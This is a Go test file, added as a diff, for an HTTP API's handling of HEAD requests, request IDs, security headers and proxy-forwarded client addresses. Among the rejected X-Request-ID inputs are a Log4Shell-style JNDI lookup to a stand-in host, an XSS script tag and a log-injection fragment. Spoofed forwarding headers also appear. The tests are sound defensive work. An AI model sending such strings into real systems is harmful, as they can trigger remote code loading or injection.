@@ -1,0 +1,249 @@
+package httpapi_test
+
+import (
+	"crypto/tls"
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+
+	"example.com/plinth/internal/contracttest"
+)
+
+// TestHEAD holds that HEAD answers like GET, without the body, in every operation and on the pages.
+func TestHEAD(t *testing.T) {
+	t.Parallel()
+	s := newServer(t, options{})
+	ada, admin := s.register(), s.registerAdmin()
+	requests := []request{
+		get(usersPath + s.user(ada).ID).as(admin), get(usersPath + s.user(ada).ID).as(ada), get(mePath), get("/nothing"),
+		get("/health?x=1"), get("/api/openapi.json"), get("/api/docs"), get("/api/redoc"),
+	}
+	for _, operation := range contracttest.Operations(t) {
+		if operation.Method == http.MethodGet {
+			requests = append(requests, documented(t, operation).as(admin))
+		}
+	}
+	for _, r := range requests {
+		t.Run(r.path, func(t *testing.T) {
+			r = r.with("X-Request-ID", "the-same").with("Accept-Encoding", "identity") // or Go's client asks for gzip with GET
+			full, body := s.send(t, r)
+			r.method = http.MethodHead
+			head, rest := s.send(t, r)
+			want(t, "status", head.StatusCode, full.StatusCode, body)
+			want(t, "headers", mapString(withoutDate(head.Header)), mapString(withoutDate(full.Header)), nil)
+			want(t, "Content-Length", head.ContentLength, full.ContentLength, nil)
+			want(t, "body", string(rest), "", nil)
+			if len(body) == 0 {
+				t.Error("GET has no body")
+			}
+		})
+	}
+}
+
+func withoutDate(header http.Header) http.Header {
+	header = header.Clone()
+	header.Del("Date")
+	return header
+}
+
+func TestRequestID(t *testing.T) {
+	t.Parallel()
+	s := newServer(t, options{})
+	for _, test := range []struct {
+		sent string
+		kept bool
+	}{
+		{"abc", true},
+		{"A.b-C_9", true},
+		{strings.Repeat("x", 128), true},
+		{"0191d0a4-9c5e-7c3a-8b1f-2f6d3c4b5a69", true},
+		{"", false},
+		{strings.Repeat("x", 129), false},
+		{"a b", false},
+		{"a,b", false},
+		{"a/b", false},
+		{"a\tb", false},
+		{"é", false},
+		{`"}{"level":"ERROR`, false},
+		{"<script>alert(1)</script>", false},
+		{"${jndi:ldap://evil.example}", false},
+	} {
+		for _, r := range []request{get("/health"), get("/nothing"), get(mePath)} {
+			response, body := s.send(t, r.with("X-Request-ID", test.sent))
+			id := response.Header.Get("X-Request-ID")
+			want(t, "kept "+test.sent, id == test.sent, test.kept, body)
+			if !test.kept && len(id) != 26 {
+				t.Errorf("the new id is %q", id)
+			}
+			if response.StatusCode >= 400 { // the transport compares the body with the header
+				want(t, "request_id", problemOf(t, response, body).RequestID, id, body)
+			}
+			if !strings.Contains(s.logs.String(), `"request_id":"`+id+`"`) {
+				t.Errorf("%q is in no log line", id)
+			}
+		}
+	}
+}
+
+// TestSecurityHeaders looks at an answer of every kind.
+func TestSecurityHeaders(t *testing.T) {
+	t.Parallel()
+	s := newServer(t, options{settings: map[string]string{"CORS_ORIGINS": ourOrigin}})
+	ada, admin := s.register(), s.registerAdmin()
+	taken := post(registerPath, `{"email":"`+ada.email+`","password":"something long"}`)
+	broken := newServer(t, options{})
+	broken.store.Close()
+	for _, test := range []struct {
+		on *server
+		request
+		status int
+	}{
+		{s, get("/health"), 200},
+		{s, request{method: http.MethodHead, path: "/health"}, 200},
+		{s, preflight(ourOrigin, mePath, http.MethodPatch), 204},
+		{s, preflight("https://evil.example", mePath, http.MethodPatch), 204},
+		{s, request{method: http.MethodOptions, path: mePath}, 204},
+		{s, get("/health?%zz"), 400},
+		{s, get(mePath), 401},
+		{s, get(usersPath + "42").as(ada), 403},
+		{s, get("/nothing"), 404},
+		{s, get(usersPath + "01JD8Z5V3K4N6P7Q8R9S0T1V2W").as(admin), 404},
+		{s, get(loginPath), 405},
+		{s, taken, 409},
+		{s, login(strings.Repeat(" ", 64<<10+1)), 413},
+		{s, login("").typed("text/plain"), 415},
+		{s, login(`{}`), 422},
+		{broken, login(somebody), 503},
+		{broken, get("/health/ready"), 503},
+	} {
+		response, body := test.on.send(t, test.request)
+		want(t, "status", response.StatusCode, test.status, body)
+		for name, value := range map[string]string{
+			"Cache-Control":           "no-store",
+			"X-Content-Type-Options":  "nosniff",
+			"Content-Security-Policy": "default-src 'none'; frame-ancestors 'none'",
+			"Referrer-Policy":         "no-referrer",
+			// Behind no TLS, it would lock people out. And nobody needs to know what runs here, or to be followed.
+			"Strict-Transport-Security": "", "Server": "", "X-Powered-By": "", "Set-Cookie": "",
+		} {
+			want(t, name+" of "+test.method+" "+test.path, response.Header.Get(name), value, body)
+		}
+		if response.Header.Get("X-Request-ID") == "" {
+			t.Errorf("%s %s has no X-Request-ID", test.method, test.path)
+		}
+		if (test.status == 503) != (response.Header.Get("Retry-After") != "") {
+			t.Errorf("Retry-After of a %d is %q", test.status, response.Header.Get("Retry-After"))
+		}
+	}
+}
+
+// TestProxies is about whose word on the client's address and connection is taken.
+func TestProxies(t *testing.T) {
+	t.Parallel()
+	alone := newServer(t, options{})
+	behind := newServer(t, options{settings: map[string]string{"TRUSTED_PROXIES": "127.0.0.0/8,10.0.0.0/8,2001:db8:1::/48"}})
+	elsewhere := newServer(t, options{settings: map[string]string{"TRUSTED_PROXIES": "192.0.2.0/24"}})
+	const client, direct = "203.0.113.7", "127.0.0.1"
+	for _, test := range []struct {
+		name     string
+		on       *server
+		sent     []string // X-Forwarded-For
+		clientIP string
+	}{
+		{"nobody is trusted", alone, []string{client}, direct},
+		{"the peer is not trusted", elsewhere, []string{client}, direct},
+		{"a trusted peer says nothing", behind, nil, direct},
+		{"a trusted peer tells", behind, []string{client}, client},
+		{"what the client made up is on the left", behind, []string{"198.51.100.1, " + client}, client},
+		{"the client made up a trusted address", behind, []string{"10.9.9.9, " + client}, client},
+		{"two proxies", behind, []string{client + ", 10.1.2.3"}, client},
+		{"two proxies, and something made up", behind, []string{"198.51.100.1, " + client + ", 10.1.2.3"}, client},
+		{"two headers", behind, []string{"198.51.100.1", client + ",10.1.2.3"}, client},
+		{"nobody but proxies", behind, []string{"10.1.2.3"}, "10.1.2.3"},
+		{"IPv6", behind, []string{"2001:db8:2::7, 2001:db8:1::1"}, "2001:db8:2::7"},
+		{"IPv6 in brackets", behind, []string{"[2001:db8:2::7]"}, "2001:db8:2::7"},
+		{"IPv4 in IPv6", behind, []string{"::ffff:" + client}, client},
+		{"no address", behind, []string{"unknown"}, direct},
+		{"no address among some", behind, []string{client + ", unknown, 10.1.2.3"}, direct},
+		{"an address with a port", behind, []string{client + ":4711"}, direct},
+		{"nothing", behind, []string{""}, direct},
+		{"markup", behind, []string{`"><script>`}, direct},
+	} {
+		t.Run(test.name, func(t *testing.T) {
+			r := post(registerPath, `{"email":"`+newEmail()+`","password":"something long"}`)
+			for _, value := range test.sent {
+				r = r.with("X-Forwarded-For", value)
+				if value == "" {
+					r.header["X-Forwarded-For"] = []string{""}
+				}
+			}
+			r = r.with("X-Real-IP", "198.51.100.2").with("Forwarded", "for=198.51.100.3").with("True-Client-IP", "198.51.100.4")
+			response, body := test.on.send(t, r)
+			want(t, "status", response.StatusCode, http.StatusCreated, body)
+			want(t, "logged address", lastLine(t, test.on).ClientIP, test.clientIP, nil)
+			var stored string
+			const newest = `SELECT host(ip) FROM sessions ORDER BY created_at DESC LIMIT 1`
+			must(t, test.on.openDatabase().QueryRowContext(t.Context(), newest).Scan(&stored))
+			want(t, "stored address", stored, test.clientIP, nil)
+		})
+	}
+
+	for _, test := range []struct {
+		name   string
+		on     *server
+		scheme string
+		hsts   bool
+	}{
+		{"TLS in front of a trusted proxy", behind, "https", true},
+		{"no TLS in front of a trusted proxy", behind, "http", false},
+		{"a trusted proxy that says nothing", behind, "", false},
+		{"a trusted proxy that says two things", behind, "https, http", false},
+		{"anybody who says TLS", alone, "https", false},
+		{"anybody else who says TLS", elsewhere, "https", false},
+	} {
+		t.Run(test.name, func(t *testing.T) {
+			for _, r := range []request{get("/health"), get(mePath), get("/nothing")} {
+				response, body := test.on.send(t, r.with("X-Forwarded-Proto", test.scheme))
+				value := response.Header.Get("Strict-Transport-Security")
+				want(t, "HSTS "+value, strings.HasPrefix(value, "max-age="), test.hsts, body)
+			}
+		})
+	}
+	t.Run("TLS at the door", func(t *testing.T) {
+		r := httptest.NewRequest(http.MethodGet, "/health", nil)
+		r.TLS = &tls.ConnectionState{}
+		recorder := httptest.NewRecorder()
+		alone.handler.ServeHTTP(recorder, r)
+		want(t, "HSTS", recorder.Header().Get("Strict-Transport-Security"), "max-age=31536000; includeSubDomains", nil)
+	})
+}
+
+// accessLine is what the log says of a request.
+type accessLine struct {
+	Level, Msg, Method, Path, Route, Error, Stack, Code string
+	RequestID                                           string `json:"request_id"`
+	ClientIP                                            string `json:"client_ip"`
+	Status                                              int
+}
+
+// logLines are those of one request, or all for an empty id.
+func (s *server) logLines(t *testing.T, requestID string) []accessLine {
+	t.Helper()
+	var found []accessLine
+	for line := range strings.Lines(s.logs.String()) {
+		var entry accessLine
+		must(t, json.Unmarshal([]byte(line), &entry))
+		if requestID == "" || entry.RequestID == requestID {
+			found = append(found, entry)
+		}
+	}
+	return found
+}
+
+func lastLine(t *testing.T, s *server) accessLine {
+	t.Helper()
+	lines := s.logLines(t, "")
+	return lines[len(lines)-1]
+}
